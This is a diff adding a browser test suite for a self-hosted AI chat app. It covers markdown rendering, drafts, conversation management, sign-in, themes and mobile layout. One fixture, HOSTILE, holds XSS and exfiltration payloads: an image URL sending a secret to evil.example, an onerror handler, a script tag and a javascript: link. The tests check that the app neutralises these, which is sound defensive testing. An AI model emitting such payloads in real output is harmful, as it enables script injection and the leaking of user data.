@@ -1,0 +1,358 @@
+import { mkdirSync } from "node:fs";
+import path from "node:path";
+import type { Browser, BrowserContext, Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { type Nightjar, startNightjar, TOKEN } from "../support/process/nightjar.ts";
+import { ScriptedModel } from "../support/process/scripted-model.ts";
+import { ChatView, Gate, launchBrowser, signedIn } from "./support/browser.ts";
+
+/** To be looked at; made anew by each run. */
+const PICTURES = path.join(import.meta.dirname, "../results/browser");
+
+let model: ScriptedModel;
+let nightjar: Nightjar;
+let browser: Browser;
+let context: BrowserContext;
+
+beforeAll(async () => {
+  mkdirSync(PICTURES, { recursive: true });
+  model = await ScriptedModel.start();
+  [nightjar, browser] = await Promise.all([startNightjar({ vars: model.vars }), launchBrowser()]);
+});
+afterAll(async () => {
+  await browser?.close();
+  await nightjar?.dispose();
+  model?.close();
+});
+beforeEach(async () => {
+  context = await signedIn(browser, nightjar);
+});
+afterEach(() => context.close());
+
+const MARKDOWN = `A **bold** word, a [link](https://example.org/a) and \`code\`.
+
+- [x] done
+- [ ] open
+
+| a | b |
+| --- | --: |
+| 1 | 2 |
+
+\`\`\`python
+def answer() -> int:
+    return 42
+\`\`\`
+
+Mass and energy: $E = mc^2$, for $5 or $10.
+
+\`\`\`mermaid
+flowchart LR
+  A[Dusk] --> B[Night]
+\`\`\`
+`;
+
+const HOSTILE = `![leak](https://evil.example/leak.png?secret=1)
+
+<img src="https://evil.example/raw.png" onerror="window.broken = 1">
+<script>window.broken = 1</script>
+[run](javascript:window.broken=1) [act](/api/v1/conversations)
+
+![own](/api/v1/files/fil_1)`;
+
+describe("what an answer is made of", () => {
+  it("is typeset: code in colours, formulas, tables and diagrams", async () => {
+    model.script((answer) => answer.text(MARKDOWN));
+    const chat = await ChatView.open(context);
+    await chat.say("Show me");
+    await chat.finished();
+    await chat.newest.locator("pre .hljs-keyword").first().waitFor();
+    await chat.newest.locator(".katex").first().waitFor();
+    await chat.newest.locator('img[src^="blob:"]').waitFor();
+    expect(await chat.newest.locator("td").allInnerTexts()).toEqual(["1", "2"]);
+    expect(await chat.newest.locator(".katex").count()).toBe(1);
+    expect(await chat.newest.locator("a").getAttribute("rel")).toContain("noopener");
+    await chat.page.screenshot({ path: path.join(PICTURES, "answer-light.png") });
+  });
+
+  it("cannot run anything, nor load anything from elsewhere", async () => {
+    model.script((answer) => answer.text(HOSTILE));
+    const chat = await ChatView.open(context);
+    const foreign: string[] = [];
+    chat.page.on("request", (request) => {
+      if (!request.url().startsWith(nightjar.url) && !/^(blob|data):/.test(request.url()))
+        foreign.push(request.url());
+    });
+    await chat.say("Attack");
+    await chat.finished();
+    const link = chat.newest.locator("a.foreign-picture");
+    expect(await link.innerText()).toContain("https://evil.example/leak.png?secret=1");
+    expect(await chat.newest.locator("script, img:not([src^='/api/v1/files/'])").count()).toBe(0);
+    expect(await chat.newest.getByText("<script>").count()).toBeGreaterThan(0);
+    expect(await chat.newest.locator('a[href*="javascript"], a[href*="/conversations"]').count()).toBe(0);
+    expect(await chat.page.evaluate("window.broken")).toBeUndefined();
+    expect(foreign).toEqual([]);
+  });
+
+  it("is served under a policy that allows no foreign source and no inline script", async () => {
+    const response = await fetch(`${nightjar.url}/`);
+    const policy = response.headers.get("content-security-policy") ?? "";
+    expect(policy).toContain("default-src 'self'");
+    expect(policy).toContain("script-src 'self';");
+    expect(policy).toContain("connect-src 'self'");
+    expect(await response.text()).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/);
+  });
+
+  it("is told to readers of the screen once it is whole, and not before", async () => {
+    const gate = new Gate();
+    model.script(async (answer) => {
+      answer.text("Half ");
+      await gate.passed;
+      answer.text("and half");
+    });
+    const chat = await ChatView.open(context);
+    const log = chat.page.getByRole("log");
+    await chat.say("Speak");
+    await chat.reads("Half");
+    expect(await log.innerText()).toBe("");
+    gate.open();
+    await log.getByText("Half and half").waitFor();
+  });
+});
+
+describe("writing", () => {
+  it("keeps a draft of each conversation over a reload", async () => {
+    const chat = await ChatView.open(context);
+    await chat.message.fill("not sent yet");
+    await chat.page.reload();
+    expect(await chat.message.inputValue()).toBe("not sent yet");
+    await chat.say("sent");
+    await chat.reads("ok");
+    expect(await chat.message.inputValue()).toBe("");
+    await chat.message.fill("another draft");
+    await chat.page.getByRole("link", { name: "New conversation", exact: true }).click();
+    await chat.page.getByRole("heading", { level: 1 }).waitFor();
+    expect(await chat.message.inputValue()).toBe("");
+    await chat.page.goBack();
+    await chat.reads("ok");
+    expect(await chat.message.inputValue()).toBe("another draft");
+  });
+
+  it("does not send at the Enter that ends a composition, nor at Shift and Enter", async () => {
+    const chat = await ChatView.open(context);
+    await chat.message.fill("よろしく");
+    await chat.message.dispatchEvent("keydown", {
+      key: "Enter",
+      isComposing: true,
+      bubbles: true,
+      cancelable: true,
+    });
+    await chat.message.press("Shift+Enter");
+    await chat.message.pressSequentially("two");
+    expect(await chat.message.inputValue()).toBe("よろしく\ntwo");
+    expect(await chat.said()).toEqual([]);
+    await chat.message.press("Enter");
+    await chat.reads("ok");
+  });
+
+  it("makes a chip of a long paste, and sends it whole", async () => {
+    const chat = await ChatView.open(context);
+    const long = "All work and no play. ".repeat(300);
+    await chat.message.focus();
+    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: nightjar.url });
+    await chat.page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(long)})`);
+    await chat.message.press("Control+v");
+    await chat.page.getByText("pasted-1.txt").waitFor();
+    expect(await chat.message.inputValue()).toBe("");
+    await chat.say("Shorten this");
+    await chat.reads("ok");
+    expect(JSON.stringify(model.requests.at(-1)?.messages.at(-1)?.content)).toContain(long);
+    expect(await chat.page.locator(".words summary").innerText()).toContain("pasted-1.txt");
+  });
+});
+
+describe("the list of conversations", () => {
+  async function begin(title: string): Promise<ChatView> {
+    const chat = await ChatView.open(context);
+    await chat.say(title);
+    await chat.reads("ok");
+    await chat.page.getByRole("link", { name: title }).waitFor();
+    return chat;
+  }
+  const act = async (page: Page, title: string, action: string) => {
+    await page.getByRole("link", { name: title }).hover();
+    await page.getByRole("button", { name: `Actions for ${title}` }).click();
+    await page.getByRole("menuitem", { name: action }).click();
+  };
+
+  it("renames, pins, archives with a way back, and deletes after asking", async () => {
+    const { page } = await begin("Plan the garden");
+    await act(page, "Plan the garden", "Rename");
+    await page.getByLabel("New title").fill("The garden");
+    await page.getByLabel("New title").press("Enter");
+    await page.getByRole("heading", { name: "The garden" }).waitFor();
+    await act(page, "The garden", "Pin");
+    await page.getByRole("heading", { name: "Pinned" }).waitFor();
+    await act(page, "The garden", "Archive");
+    await page.getByRole("link", { name: "The garden" }).waitFor({ state: "detached" });
+    await page.getByRole("button", { name: "Undo" }).click();
+    await page.getByRole("link", { name: "The garden" }).waitFor();
+    await act(page, "The garden", "Delete");
+    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
+    await page.getByRole("link", { name: "The garden" }).waitFor({ state: "detached" });
+    await page.reload();
+    await page.getByLabel("Message", { exact: true }).waitFor();
+    expect(await page.getByRole("link", { name: "The garden" }).count()).toBe(0);
+  });
+
+  it("finds by words, and goes there by keys alone", async () => {
+    await begin("Sourdough with rye");
+    const { page } = await begin("Train to Lisbon");
+    await page.getByRole("link", { name: "Sourdough with rye" }).waitFor();
+    await page.getByLabel("Search conversations").fill("sourdough");
+    await page.getByRole("link", { name: "Train to Lisbon" }).waitFor({ state: "detached" });
+    await page.getByRole("link", { name: "Sourdough with rye" }).waitFor();
+    await page.keyboard.press("Control+k");
+    await page.keyboard.type("sourdough");
+    await page.getByRole("option", { name: "Sourdough with rye" }).waitFor();
+    await page.keyboard.press("Enter");
+    await page.getByRole("heading", { name: "Sourdough with rye" }).waitFor();
+  });
+});
+
+describe("a long conversation", () => {
+  it("opens at its end, and reads further back as its reader does", async () => {
+    const id = await nightjar.createConversation({ title: "Long" });
+    const socket = await nightjar.socket(id);
+    for (let count = 1; count <= 25; count++) {
+      socket.send({ type: "send", client_id: `c${count}`, text: `Question ${count}` });
+      await socket.event(
+        (event) =>
+          event.type === "turn_end" &&
+          socket.events.filter((other) => other.type === "turn_end").length >= count,
+      );
+    }
+    const chat = await ChatView.open(context, `/c/${id}`);
+    await chat.page.getByText("Question 25", { exact: true }).waitFor();
+    expect(await chat.page.locator(".words").count()).toBe(15);
+    expect(await chat.page.getByText("Question 25", { exact: true }).isVisible()).toBe(true);
+    const scroller = chat.page.getByRole("region", { name: "Conversation" });
+    await scroller.hover();
+    await chat.page.mouse.wheel(0, -100_000);
+    await chat.page.getByText("Question 1", { exact: true }).waitFor();
+    expect(await chat.page.locator(".words").count()).toBe(25);
+    await chat.page.getByLabel("To the newest message").click();
+    await chat.page.getByLabel("To the newest message").waitFor({ state: "detached" });
+  });
+});
+
+describe("signing in", () => {
+  it("takes the token, and says what is wrong with another", async () => {
+    const fresh = await browser.newContext({ baseURL: nightjar.url });
+    const page = await fresh.newPage();
+    await page.goto("/costs");
+    await page.getByLabel("ADMIN_TOKEN").fill("not-the-token-at-all");
+    await page.getByRole("button", { name: "Sign in" }).click();
+    await page.getByRole("alert").getByText("not the ADMIN_TOKEN").waitFor();
+    await page.getByLabel("ADMIN_TOKEN").fill(TOKEN);
+    await page.getByRole("button", { name: "Sign in" }).click();
+    await page.getByRole("heading", { name: "Costs" }).waitFor();
+    await page.goto("/settings");
+    await page.getByRole("button", { name: "Sign out" }).click();
+    await page.getByLabel("ADMIN_TOKEN").waitFor();
+    await fresh.close();
+  });
+
+  it("says so when a link was used before", async () => {
+    const { url } = await nightjar.request<{ url: string }>("POST", "/auth/links", {});
+    await fetch(url, { redirect: "manual" });
+    const fresh = await browser.newContext();
+    const page = await fresh.newPage();
+    await page.goto(url);
+    await page.getByRole("alert").getByText("used already").waitFor();
+    await fresh.close();
+  });
+});
+
+describe("what the instance is at", () => {
+  it("is seen live: who thinks, and where", async () => {
+    const gate = new Gate();
+    model.script(async (answer) => {
+      answer.text("Long thoughts ");
+      await gate.passed;
+    });
+    const chat = await ChatView.open(context);
+    await chat.say("Think hard");
+    await chat.reads("Long thoughts");
+    const page = await context.newPage();
+    await page.goto("/live");
+    const turn = page.getByRole("main").getByRole("link", { name: /Think hard/ });
+    await turn.waitFor();
+    expect(await turn.innerText()).toMatch(/Thinking[\s\S]*scripted[\s\S]*step 1/);
+    gate.open();
+    await turn.waitFor({ state: "detached" });
+  });
+
+  it("is told of every page that is not there", async () => {
+    const page = await context.newPage();
+    await page.goto("/nothing/here");
+    await page.getByText("no page at this address").waitFor();
+    await page.goto("/c/cnv_000000000nothere");
+    await page.getByText("not here").waitFor();
+  });
+});
+
+describe("looks", () => {
+  const paper = (page: Page) =>
+    page.evaluate("getComputedStyle(document.body).backgroundColor") as Promise<string>;
+  const overflow = (page: Page) =>
+    page.evaluate("document.documentElement.scrollWidth - window.innerWidth") as Promise<number>;
+
+  it("follow the system's theme, and a choice against it that is remembered", async () => {
+    const dark = await signedIn(browser, nightjar, { colorScheme: "dark" });
+    const chat = await ChatView.open(dark);
+    const night = await paper(chat.page);
+    await chat.page.screenshot({ path: path.join(PICTURES, "home-dark.png") });
+    await chat.page.getByLabel(/^Theme: as the system/).click();
+    const day = await paper(chat.page);
+    expect(day).not.toBe(night);
+    await chat.page.reload();
+    expect(await paper(chat.page)).toBe(day);
+    await dark.close();
+  });
+
+  it("fit a phone, where the list is a drawer", async () => {
+    model.script((answer) => answer.text(MARKDOWN));
+    const phone = await signedIn(browser, nightjar, {
+      viewport: { width: 390, height: 844 },
+      deviceScaleFactor: 2,
+      isMobile: true,
+      hasTouch: true,
+      colorScheme: "dark",
+    });
+    const chat = await ChatView.open(phone);
+    await chat.message.fill("Show me on a phone");
+    await chat.page.getByLabel("Send").tap();
+    await chat.finished();
+    await chat.newest.locator('img[src^="blob:"]').waitFor();
+    expect(await overflow(chat.page)).toBeLessThanOrEqual(0);
+    await chat.page.screenshot({ path: path.join(PICTURES, "phone-dark.png") });
+    await chat.page.getByLabel("Show conversations").tap();
+    const drawer = chat.page.getByRole("dialog", { name: "Conversations" });
+    await drawer.getByRole("link", { name: "Show me on a phone" }).waitFor();
+    await chat.page.screenshot({ path: path.join(PICTURES, "phone-drawer-dark.png") });
+    await drawer.getByRole("link", { name: "Costs" }).tap();
+    await chat.page.getByRole("heading", { name: "Costs" }).waitFor();
+    expect(await drawer.isVisible()).toBe(false);
+    await phone.close();
+  });
+
+  it("stand still for whoever asks for that", async () => {
+    const still = await signedIn(browser, nightjar, { reducedMotion: "reduce" });
+    const chat = await ChatView.open(still);
+    const moving = await chat.page.evaluate(
+      `document.getAnimations().filter((animation) => animation.effect.getComputedTiming().iterations > 1).length`,
+    );
+    expect(moving).toBe(0);
+    await still.close();
+  });
+});
